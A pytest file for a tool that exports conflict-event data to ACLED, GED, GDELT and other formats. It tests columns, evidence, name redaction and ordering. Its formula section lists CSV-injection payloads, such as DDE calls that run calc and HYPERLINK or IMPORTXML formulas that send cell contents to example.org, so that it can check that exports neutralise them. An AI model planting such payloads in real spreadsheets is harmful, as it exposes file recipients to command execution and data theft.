"""Exports: the columns of each format, the evidence in every row, nobody's private name, no live formula, one order."""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
import subprocess
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import polars
import pytest
from happenings import ARIHA, ARMY, FARMERS, OTHERS, PERSON, REBELS, SHELLING, changed, dead, event_of, kept, pair
from happenings import taking_part as part
from hypothesis import given
from hypothesis import strategies as st

from tocsin.errors import UsageError
from tocsin.schema import events_schema
from tocsin.serving.exports import CLAIM_FORMATS, FORMATS, Exported, export, export_claims, table
from tocsin.serving.exports.files import in_order_of
from tocsin.serving.exports.ged import priogrid
from tocsin.terms.cells import guarded, unguarded
from tocsin.terms.claims import (
    Acled,
    AgreementContent,
    Argument,
    Casualties,
    EventContent,
    FlowContent,
    LabelContent,
    RelationContent,
    StatementContent,
)
from tocsin.terms.columns import ACLED, GDELT, GED
from tocsin.terms.event_format import event_from_dict
from tocsin.terms.events import Side, Value
from tocsin.terms.when import Amount, Interval
from tocsin.terms.where import Place
from tocsin.terms.who import Actor, Holder, Participant

# As these formats are published.
ACLED_HEADER = (
    "event_id_cnty,event_date,year,time_precision,disorder_type,event_type,sub_event_type,actor1,assoc_actor_1,inter1,"
    "actor2,assoc_actor_2,inter2,interaction,civilian_targeting,iso,region,country,admin1,admin2,admin3,location,"
    "latitude,longitude,geo_precision,source,source_scale,notes,fatalities,tags,timestamp"
)
GED_HEADER = (
    "id,relid,year,active_year,code_status,type_of_violence,conflict_dset_id,conflict_new_id,conflict_name,"
    "dyad_dset_id,dyad_new_id,dyad_name,side_a_dset_id,side_a_new_id,side_a,side_b_dset_id,side_b_new_id,side_b,"
    "number_of_sources,source_article,source_office,source_date,source_headline,source_original,where_prec,"
    "where_coordinates,where_description,adm_1,adm_2,latitude,longitude,geom_wkt,priogrid_gid,country,country_id,"
    "region,event_clarity,date_prec,date_start,date_end,deaths_a,deaths_b,deaths_civilians,deaths_unknown,best,high,"
    "low,gwnoa,gwnob"
)
SHEETS = ("csv", "acled", "ged", "gdelt")


def written(pairs: Sequence[Any], format: str) -> tuple[Exported, bytes]:
    stream = io.BytesIO()
    return export(pairs, format, stream), stream.getvalue()


def cells(data: bytes, format: str) -> list[list[str]]:
    text = data.decode()
    if format == "gdelt":
        return [line.split("\t") for line in text.split("\n")[:-1]]
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def rows(pairs: Sequence[Any], format: str) -> list[dict[str, str]]:
    """The rows as they are read back, by column; None of the cells is guarded any more."""
    table = cells(written(pairs, format)[1], format)
    header, body = (list(GDELT), table) if format == "gdelt" else (table[0], table[1:])
    return [{name: unguarded(cell) for name, cell in zip(header, row, strict=True)} for row in body]


def row(content: EventContent, format: str, **fields: Any) -> dict[str, str]:
    (one,) = rows([pair(content, **fields)], format)
    return one


# Columns


def test_columns_stand_in_the_published_order() -> None:
    assert ",".join(ACLED) == ACLED_HEADER
    assert ",".join(GED) == GED_HEADER
    assert (len(ACLED), len(GED), len(GDELT)) == (31, 49, 61)
    for format, header in (("acled", ACLED_HEADER), ("ged", GED_HEADER)):
        first = cells(written([pair()], format)[1], format)[0]
        assert ",".join(first) == header
    assert len(cells(written([pair()], "gdelt")[1], "gdelt")[0]) == 61  # and no header before it


def test_ged_row_of_a_shelling() -> None:
    found = row(SHELLING, "ged")
    told = {name: found[name] for name in found if found[name]}
    event, (claim,) = pair()
    assert told.pop("id").isdigit()
    assert told == {
        "relid": event.id,
        "year": "2020",
        "type_of_violence": "1",
        "dyad_name": "Government of Syria - Ahrar al-Sham",
        "side_a": "Government of Syria",
        "side_b": "Ahrar al-Sham",
        "number_of_sources": "1",
        "source_article": '"Agency","2020-03-06","https://example.org/1"',
        "source_office": "Agency",
        "source_date": "2020-03-06",
        "source_headline": "“the army shelled Ariha and killed three fighters”",
        "source_original": f"author; claims {claim.claim.id}",
        "where_prec": "1",
        "where_coordinates": "Ariha",
        "where_description": "Ariha",
        "latitude": "35.8143",
        "longitude": "36.6102",
        "geom_wkt": "POINT (36.6102 35.8143)",
        "priogrid_gid": "181154",
        "country": "Syria",
        "country_id": "652",
        "region": "Middle East",
        "event_clarity": "1",
        "date_prec": "1",
        "date_start": "2020-03-05",
        "date_end": "2020-03-05",
        "deaths_a": "0",
        "deaths_b": "3",
        "deaths_civilians": "0",
        "deaths_unknown": "0",
        "best": "3",
        "high": "3",
        "low": "3",
        "gwnoa": "652",
    }


@pytest.mark.parametrize(
    ("acting", "acted_on", "violence", "side_a", "side_b"),
    [
        ([ARMY], [REBELS], "1", "Government of Syria", "Ahrar al-Sham"),
        ([REBELS], [ARMY], "1", "Government of Syria", "Ahrar al-Sham"),
        ([REBELS, OTHERS], [], "2", None, None),
        ([REBELS], [FARMERS], "3", "Ahrar al-Sham", "Civilians"),
        ([ARMY], [Actor(None, "civilians", None, None, "CVL")], "3", "Government of Syria", "Civilians"),
    ],
)
def test_type_of_violence_follows_from_the_sides(
    acting: list[Actor], acted_on: list[Actor], violence: str, side_a: str | None, side_b: str | None
) -> None:
    found = row(changed(participants=(*part("actor", *acting), *part("recipient", *acted_on))), "ged")
    assert found["type_of_violence"] == violence
    if side_a is None:
        assert {found["side_a"], found["side_b"]} == {actor.name for actor in acting}
    else:
        assert (found["side_a"], found["side_b"]) == (side_a, side_b)


GOVERNMENT = Actor("SYR", "Syria", "government", "SYR", "GOV")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (changed(participants=(*part("actor", ARMY), *part("recipient", GOVERNMENT))), "only one party"),
        (changed(type="PROTEST"), "no use of armed force"),
        (changed(casualties=Casualties()), "no dead"),
        (changed(participants=part("recipient", FARMERS)), "no armed party"),
        (changed(participants=part("actor", Actor(None, "gunmen", "armed", None, "UAF"))), "no armed party"),
        (changed(participants=part("actor", REBELS)), "only one party"),
        (changed(time=None), "no days"),
    ],
)
def test_what_ged_has_no_row_for_is_left_out_with_the_reason(content: EventContent, reason: str) -> None:
    report, data = written([pair(content)], "ged")
    assert report.rows == 0
    assert len(cells(data, "ged")) == 1
    ((said, number),) = report.left_out
    assert reason in said
    assert number == 1


@pytest.mark.parametrize(
    ("first", "last", "precision"),
    [
        ("2020-03-05", "2020-03-05", "1"),
        ("2020-03-05", "2020-03-06", "2"),
        ("2020-03-05", "2020-03-10", "2"),
        ("2020-03-05", "2020-03-11", "3"),
        ("2020-03-05", "2020-03-12", "4"),
        ("2020-03-01", "2020-03-31", "4"),
        ("2020-03-01", "2020-04-01", "5"),
        ("2020-01-01", "2020-12-31", "5"),
    ],
)
def test_date_precision_of_ged(first: str, last: str, precision: str) -> None:
    found = row(changed(time=Interval(first, last, "unknown", "then", 0, 0)), "ged")
    assert (found["date_prec"], found["date_start"], found["date_end"]) == (precision, first, last)


@pytest.mark.parametrize(
    ("place", "precision"),
    [
        (ARIHA, "1"),
        (Place("near Ariha", 0, 0, "Ariha", "point", "SYR", 35.8, 36.6, None, 20.0), "2"),
        (Place("Idlib province", 0, 0, "Idlib", "admin1", "SYR", 35.8, 36.6, None, 60.0), "4"),
        (Place("Ariha district", 0, 0, "Ariha", "admin2", "SYR", 35.8, 36.6, None, 20.0), "3"),
        (Place("the north", 0, 0, "the north", "region", "SYR"), "5"),
        (Place("Syria", 0, 0, "Syria", "country", "SYR", 35.0, 38.0, None, 300.0), "6"),
    ],
)
def test_place_precision_of_ged(place: Place, precision: str) -> None:
    assert row(changed(place=place), "ged")["where_prec"] == precision


def test_bounds_without_a_figure_stay_bounds() -> None:
    up_to = Casualties(killed=Amount(None, None, 100, "up to 100", "at_most", "fighters"))
    found = row(changed(casualties=up_to), "ged")
    assert (found["best"], found["low"], found["high"]) == ("", "", "100")
    assert found["deaths_b"] == found["deaths_unknown"] == ""
    assert row(changed(casualties=up_to), "acled")["fatalities"] == ""


@pytest.mark.parametrize(
    ("who", "column"),
    [
        ("civilians", "deaths_civilians"),
        ("fighters", "deaths_b"),
        ("people", "deaths_unknown"),
        (None, "deaths_unknown"),
    ],
)
def test_the_dead_by_side_as_far_as_told(who: str | None, column: str) -> None:
    found = row(changed(casualties=dead(4, who)), "ged")
    four = ("deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown")
    assert {name: found[name] for name in four} == {name: "4" if name == column else "0" for name in four}


@pytest.mark.parametrize(
    ("lat", "lon", "cell"),
    [(36.496133, 37.003318, 181875), (50.45, 30.52333, 202022), (-89.9, -179.9, 1), (90, 180, 259200)],
)
def test_cells_of_prio_grid(lat: float, lon: float, cell: int) -> None:
    assert priogrid(lat, lon) == cell


def test_acled_row_of_a_shelling() -> None:
    found = row(SHELLING, "acled")
    wanted = {
        "event_date": "2020-03-05", "year": "2020", "time_precision": "1", "disorder_type": "Political violence",
        "event_type": "Explosions/Remote violence", "sub_event_type": "Shelling/artillery/missile attack",
        "actor1": "Military Forces of Syria", "inter1": "1", "actor2": "Ahrar al-Sham", "inter2": "2",
        "interaction": "12", "civilian_targeting": "", "iso": "760", "region": "Middle East", "country": "Syria",
        "location": "Ariha", "latitude": "35.8143", "longitude": "36.6102", "geo_precision": "1", "source": "Agency",
        "source_scale": "", "fatalities": "3", "timestamp": "",
    }  # fmt: skip
    assert {name: found[name] for name in wanted} == wanted
    assert found["event_id_cnty"].startswith("SYR")
    event, (claim,) = pair()
    for evidence in (claim.claim.id, claim.report, "https://example.org/1", "the army shelled Ariha"):
        assert evidence in found["notes"]
    assert event.id in found["tags"]


def test_acled_calls_civilians_and_protesters_by_their_class_alone() -> None:
    victims = changed(
        participants=(*part("actor", REBELS), *part("recipient", FARMERS)),
        acled=Acled("Violence against civilians", "Attack"),
    )
    found = row(victims, "acled")
    assert (found["actor2"], found["inter2"], found["interaction"]) == ("Civilians (Syria)", "7", "27")
    assert found["civilian_targeting"] == "Civilian targeting"
    march = changed(
        type="PROTEST",
        participants=part("actor", Actor(None, "protesters", None, None, "OPP")),
        acled=Acled("Protests", "Peaceful protest"),
    )
    found = row(march, "acled")
    assert (found["actor1"], found["inter1"], found["actor2"]) == ("Protesters (Syria)", "6", "")
    assert found["disorder_type"] == "Demonstrations"


def test_an_army_abroad_is_an_external_force() -> None:
    russians = changed(
        participants=(*part("actor", Actor("RUS", "Russia", "army", "RUS", "MIL")), *part("recipient", REBELS))
    )
    assert row(russians, "acled")["inter1"] == "8"
    assert row(russians, "ged")["side_a"] == "Government of Russia (Soviet Union)"


def test_a_week_and_a_month_in_acled() -> None:
    week = changed(time=Interval("2020-03-02", "2020-03-08", "week", "last week", 0, 0))
    assert row(week, "acled")["time_precision"] == "2"
    assert row(week, "acled")["event_date"] == "2020-03-05"
    month = changed(time=Interval("2020-03-01", "2020-03-31", "month", "in March", 0, 0))
    assert row(month, "acled")["time_precision"] == "3"
    long = changed(time=Interval("2020-03-01", "2020-05-31", "season", "in spring", 0, 0))
    assert written([pair(long)], "acled")[0].left_out == (("no day, week or month is told", 1),)


def test_gdelt_row_of_a_shelling() -> None:
    found = row(SHELLING, "gdelt")
    told = {name: cell for name, cell in found.items() if cell}
    assert told.pop("GLOBALEVENTID").isdigit()
    assert told == {
        "SQLDATE": "20200305", "MonthYear": "202003", "Year": "2020", "FractionDate": "2020.2603",
        "Actor1Code": "SYRMIL", "Actor1Name": "SYRIA", "Actor1CountryCode": "SYR", "Actor1Type1Code": "MIL",
        "Actor2Code": "SYRREB", "Actor2Name": "AHRAR AL-SHAM", "Actor2CountryCode": "SYR", "Actor2Type1Code": "REB",
        "EventCode": "194", "EventBaseCode": "194", "EventRootCode": "19", "QuadClass": "4", "NumMentions": "1",
        "NumSources": "1", "NumArticles": "1", "ActionGeo_Type": "4", "ActionGeo_FullName": "Ariha, Syria",
        "ActionGeo_CountryCode": "SY", "ActionGeo_Lat": "35.8143", "ActionGeo_Long": "36.6102",
        "SOURCEURL": "https://example.org/1",
    }  # fmt: skip


def test_plover_line_of_a_shelling() -> None:
    line = json.loads(written([pair()], "plover")[1])
    assert {"id", "date", "actor", "event"} <= line.keys()
    assert (line["date"], line["event"], line["mode"], line["quad_code"]) == (
        "2020-03-05",
        ["ASSAULT"],
        ["heavy-weapons"],
        4,
    )
    assert line["actor"] == [{"code": "SYR", "sector": "MIL", "entity_text": "Syria", "identifier_text": "tocsin:SYR"}]
    assert line["size"] == {"dead": 3}
    assert line["event_loc"]["geonameid"] == "174182"
    assert line["text"][0]["text_story"] == "the army shelled Ariha and killed three fighters"
    assert line["cite_info"][0]["url"] == "https://example.org/1"


@pytest.mark.parametrize("format", ["plover", "acled", "ged", "gdelt"])
@pytest.mark.parametrize("status", ["planned", "denied", "hypothetical", "predicted"])
def test_what_did_not_happen_is_no_row_of_happenings(format: str, status: str) -> None:
    report, _ = written([pair(status=status)], format)
    assert report.rows == 0
    assert report.left_out == ((f"it is told as {status}, not as something that happened", 1),)
    assert written([pair(status=status)], "csv")[0].rows == 1


# Own formats


def test_lines_are_events_with_their_evidence() -> None:
    event, claims = pair()
    line = json.loads(written([(event, claims)], "jsonl")[1])
    jsonschema.validate(line, events_schema(), jsonschema.Draft202012Validator)
    assert event_from_dict(line) == event
    (evidence,) = line["evidence"]
    assert evidence["quote"] == claims[0].claim.quote
    assert (evidence["url"], evidence["report"]) == (claims[0].url, claims[0].report)


def test_geojson_is_geojson_also_without_a_place_and_without_events() -> None:
    nowhere = pair(changed(place=None))
    report, data = written([pair(), nowhere], "geojson")
    found = json.loads(data)
    assert found["type"] == "FeatureCollection"
    points = {feature["id"]: feature["geometry"] for feature in found["features"]}
    assert points[pair()[0].id] == {"type": "Point", "coordinates": [36.6102, 35.8143]}
    assert points[nowhere[0].id] is None
    assert found["features"][0]["properties"]["precision_km"] in {2.0, None}
    assert report.noted == (("geometry null: no place with coordinates is told", 1),)
    assert json.loads(written([], "geojson")[1])["features"] == []


def test_parquet_holds_what_csv_holds() -> None:
    pairs = [pair(), pair(changed(place=None), quote="Rebels fought the army.")]
    table = polars.read_parquet(io.BytesIO(written(pairs, "parquet")[1]))
    assert table.schema["lat"] == polars.Float64
    assert table.schema["killed_best"] == polars.Int64
    told = [{name: "" if cell is None else str(cell) for name, cell in one.items()} for one in table.to_dicts()]
    assert told == rows(pairs, "csv")
    assert polars.read_parquet(io.BytesIO(written([], "parquet")[1])).shape == (0, len(table.columns))


def test_every_row_carries_its_evidence() -> None:
    claims = [kept(), kept(quote="three fighters died when the army shelled Ariha", outlet="Post", url=None)]
    event = event_of(claims)
    for format in FORMATS:
        data = written([(event, claims)], format)[1]
        text = str(polars.read_parquet(io.BytesIO(data)).to_dicts()) if format == "parquet" else data.decode()
        assert "https://example.org/1" in text, format
        if format != "gdelt":  # which has a single column for all of it
            for claim in claims:
                assert claim.claim.quote in text, format
                assert claim.claim.id in text, format
                assert claim.report in text or format == "ged", format


def test_claims_that_are_not_at_hand_leave_their_ids() -> None:
    event, (claim,) = pair()
    (found,) = rows([(event, ())], "csv")
    assert (found["claims"], found["urls"], found["quotes"]) == (claim.claim.id, f"report:{claim.report}", "")


# Persons


def test_private_persons_stand_in_quotes_only() -> None:
    quote = "the army killed Karim Someone, his cousin Amal Other said"
    told_by = Holder("named", "Amal Other", None, "said", 46, 56)
    content = changed(
        participants=(*part("actor", ARMY, REBELS), *part("recipient", PERSON, FARMERS)),
        acled=Acled("Violence against civilians", "Attack"),
    )
    one = pair(content, quote=quote, holder=told_by)
    for format in FORMATS:
        data = written([one], format)[1]
        text = str(polars.read_parquet(io.BytesIO(data)).to_dicts()) if format == "parquet" else data.decode()
        without_quotes = text.replace(quote, "")
        for name in ("Karim", "Amal", "two farmers", "KARIM"):
            assert name not in without_quotes, (format, name)
    stream = io.BytesIO()
    for format in CLAIM_FORMATS:
        stream = io.BytesIO()
        export_claims(one[1], format, stream)
        data = stream.getvalue()
        text = str(polars.read_parquet(io.BytesIO(data)).to_dicts()) if format == "parquet" else data.decode()
        assert "Karim" not in text.replace(quote, ""), format
        assert "Amal" not in text.replace(quote, ""), format
        assert "Ahrar al-Sham" in text


def test_private_persons_have_no_words_in_any_kind_of_claim() -> None:
    words = "Karim Someone"
    who = Participant("of", words, 0, 13, PERSON)
    told_by = Holder("named", "Amal Other", None, "said", 0, 0)
    contents = (
        ("relation", RelationContent("backs", who, who)),
        ("flow", FlowContent("arms", from_=who, to=who)),
        ("agreement", AgreementContent("ceasefire", parties=(who,), mediators=(who,))),
        ("statement", StatementContent("intent", Argument(None, who, words, 0, 13), None, who, who)),
        ("label", LabelContent("terrorist", who, True, told_by)),
    )
    one = kept()
    for kind, content in contents:
        claim = replace(one.claim, kind=kind, content=content, holders=(told_by,))
        for format in ("csv", "jsonl", "geojson"):
            stream = io.BytesIO()
            export_claims([replace(one, claim=claim)], format, stream)
            assert "Karim" not in stream.getvalue().decode(), (kind, format)
            assert "Amal" not in stream.getvalue().decode(), (kind, format)


@pytest.mark.parametrize(
    ("holder", "words"),
    [
        (Holder("author"), "author"),
        (Holder("named", "Amal Other", None), "a named source"),
        (Holder("unnamed", "Cook", None), "a named source"),
        (Holder("named", "he", None), "a named source"),
        (Holder("named", "he", "RUS"), "RUS"),
        (Holder("named", "Sergei Lavrov", "sergei-lavrov"), "Sergei Lavrov"),
        (Holder("named", "the city council", None), "the city council"),
        (Holder("named", "Russia's Defence Ministry", None), "Russia's Defence Ministry"),
        (Holder("unnamed", "reportedly", None), "reportedly"),
    ],
)
def test_words_for_those_on_whose_word(holder: Holder, words: str) -> None:
    assert row(SHELLING, "csv", holder=holder)["holders"] == words


@pytest.mark.parametrize(
    ("name", "said", "written"),
    [
        ("front of the dunes", "the Front of the Dunes", "the Front of the Dunes"),
        ("front of the dunes", "It", "front of the dunes"),
        ("gunmen", "gunmen", "gunmen"),
    ],
)
def test_names_that_no_list_has_are_written_as_reports_write_them(name: str, said: str, written: str) -> None:
    event, claims = pair()
    unknown = Side("actor", Actor(None, name, "rebel", None, "REB"), (claims[0].claim.id,))
    event = replace(event, sides=(replace(unknown, values=(Value(said, unknown.claims, ("Agency",)),)),))
    (found,) = rows([(event, claims)], "csv")
    assert found["actors"] == written


# Formulas

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"click")', '=IMPORTXML(CONCAT("https://example.org?v=",A1),"//a")',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "\u200b=1+1", "%0A=1+1", "|calc", "'=1+1", "﹦1+1", "−1+1", "=1+1;=2+2", '"=1+1', "=WEBSERVICE(\"https://example.org\")",
]  # fmt: skip
LIVE = set("=+-@\t\r\n|%＝＋－＠﹦−")


def is_live(cell: str) -> bool:
    """Whether a spreadsheet could evaluate the cell: it is no number, and begins as a formula does."""
    try:
        float(cell)
    except ValueError:
        return cell.lstrip(" \u200b\ufeff")[:1] in LIVE
    return False


def of_payload(payload: str) -> Any:
    """An event with the payload wherever a text can stand, and its claim."""
    content = changed(
        participants=(*part("actor", Actor("X", payload, "rebel", "SYR", "REB")), *part("recipient", ARMY)),
        place=Place(payload, 0, 0, payload, "town", "SYR", -33.5, -70.25, None, 3.0),
        weapons=(payload,),
    )
    return pair(content, quote=payload, outlet=payload, url=payload)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_no_cell_is_live_in_libreoffice(tmp_path: Path) -> None:
    """LibreOffice opens the files as it does by default; a file with bare formulas shows that it would take them."""
    files = {"control.csv": b'=1+1,"=2+2",-33.5\n'}
    events = [of_payload(payload) for payload in PAYLOADS]
    for format in SHEETS:
        files[f"{format}.{'tsv' if format == 'gdelt' else 'csv'}"] = written(events, format)[1]
    stream = io.BytesIO()
    export_claims([claim for _, claims in events for claim in claims], "csv", stream)
    files["claims.csv"] = stream.getvalue()
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)

    def opened(name: str, *options: str) -> str:
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        command = [
            "soffice",
            profile,
            "--headless",
            *options,
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path / "out"),
        ]
        subprocess.run([*command, str(tmp_path / name)], check=True, capture_output=True, timeout=100)
        return (tmp_path / "out" / name).with_suffix(".fods").read_text(encoding="utf-8")

    for name in files:
        # By default, then with the tab (9) as separator where it is one: UTF-8 (76), marks (34) around text.
        for options in ((), ("--infilter=CSV:9,34,76",)) if name == "gdelt.tsv" else ((),):
            sheet = opened(name, *options)
            assert ("table:formula" in sheet) == (name == "control.csv"), (name, options)
            assert "dde-link" not in sheet
        assert 'office:value="-33.5"' in sheet or name == "claims.csv", name


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("format", SHEETS)
def test_no_cell_is_live_and_all_come_back(payload: str, format: str) -> None:
    one = of_payload(payload)
    data = written([one], format)[1]
    table = cells(data, format)
    assert len(table) == (1 if format == "gdelt" else 2)
    for line in table:
        assert [cell for cell in line if is_live(cell)] == []
    (found,) = rows([one], format)
    assert "-33.5" in table[-1]
    if format != "gdelt":  # which can hold neither tabs nor line ends, and writes names in capitals
        column = {"csv": "place", "acled": "location", "ged": "where_coordinates"}[format]
        assert found[column] == payload
        # Nor does another separator than the comma bring one to life: text stands in quotation marks.
        for line in data.decode().splitlines()[1:]:
            assert ";=" not in line or '";=' not in line


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_claims_table_is_live(payload: str) -> None:
    claim = kept(quote=payload, outlet=payload, url=payload)
    stream = io.BytesIO()
    export_claims([claim], "csv", stream)
    table = cells(stream.getvalue(), "csv")
    assert [cell for line in table for cell in line if is_live(cell)] == []
    assert payload in [unguarded(cell) for cell in table[1]]


@given(st.text())
def test_guarding_loses_nothing(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text) in {text, "'" + text}


@pytest.mark.parametrize("text", ["Ahrar al-Sham", "'Ayn al-Arab", "al-Bab", "", "3 dead", "§ 5", "„Zug“"])
def test_plain_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


# Order, and whole files


def several() -> list[Any]:
    days = [f"2020-03-{day:02}" for day in range(1, 21)]
    made = [
        pair(changed(time=Interval(day, day, "day", "then", 0, 0)), quote=f"the army shelled Ariha on {day}")
        for day in days
    ]
    return [*made, pair(changed(time=None), quote="the army once shelled Ariha")]


@pytest.mark.parametrize("format", FORMATS)
def test_the_same_events_in_any_order_give_the_same_bytes(format: str, tmp_path: Path) -> None:
    pairs = several()
    digests = set()
    for seed in range(3):
        random.Random(seed).shuffle(pairs)
        digests.add(export(pairs, format, tmp_path / f"{seed}").digest)
        digests.add(written(pairs, format)[0].digest)
    assert len(digests) == 1


@given(st.lists(st.integers(0, 50), max_size=60), st.integers(1, 9))
def test_rows_that_do_not_fit_in_memory_stand_in_order_too(numbers: list[int], at_a_time: int) -> None:
    assert list(in_order_of(lambda one: one, numbers, None, at_a_time)) == sorted(numbers)


def test_a_file_is_written_whole_or_not_at_all(tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    out.write_text("an earlier export")

    def breaking() -> Any:
        yield pair()
        raise RuntimeError("the record is gone")

    with pytest.raises(RuntimeError):
        export(breaking(), "csv", out)
    assert out.read_text() == "an earlier export"
    assert [path.name for path in tmp_path.iterdir()] == ["events.csv"]
    report = export([pair()], "csv", out)
    assert report.size == out.stat().st_size
    assert out.read_text().startswith('"id"')


def test_what_cannot_be_written_to_is_told(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no export format 'xlsx'"):
        export([], "xlsx", tmp_path / "x")
    with pytest.raises(UsageError, match="is a folder"):
        export([], "csv", tmp_path)
    with pytest.raises(UsageError, match="there is no folder"):
        export([], "csv", tmp_path / "none" / "x.csv")


@pytest.mark.parametrize("format", FORMATS)
def test_nothing_to_export_gives_a_sound_file(format: str) -> None:
    report, data = written([], format)
    assert (report.rows, report.left_out) == (0, ())
    assert len(data) == report.size


@pytest.mark.parametrize("format", CLAIM_FORMATS)
def test_claims_are_exported_with_their_address(format: str) -> None:
    claims = [kept(), kept(quote="rebels shelled a barracks", url=None, published=None)]
    digests = set()
    for order in (claims, claims[::-1]):
        stream = io.BytesIO()
        report = export_claims(order, format, stream)
        digests.add(report.digest)
        assert report.rows == 2
    assert len(digests) == 1
    data = stream.getvalue()
    text = str(polars.read_parquet(io.BytesIO(data)).to_dicts()) if format == "parquet" else data.decode()
    assert "https://example.org/1" in text
    assert "rebels shelled a barracks" in text


# The manual


def test_the_manual_names_every_column_and_field() -> None:
    manual = (Path(__file__).parent.parent / "docs" / "interchange.md").read_text(encoding="utf-8")
    schema = events_schema()
    fields = {name for part in (schema, *schema["$defs"].values()) for name in part.get("properties", {})}
    # What stands in the claims format, too, is described there.
    shared = {name for part in ("actor", "place", "interval", "amount") for name in schema["$defs"][part]["properties"]}
    for name in {*fields - shared, *ACLED, *GED, *table.COLUMNS}:
        assert f"`{name}`" in manual, name
    for name in GDELT:
        plain = name.replace("Actor1", "").replace("Actor2", "")
        assert f"`{name}`" in manual or f"`{plain}`" in manual or "Geo_" in name or f"`Actor1{plain}`" in manual, name
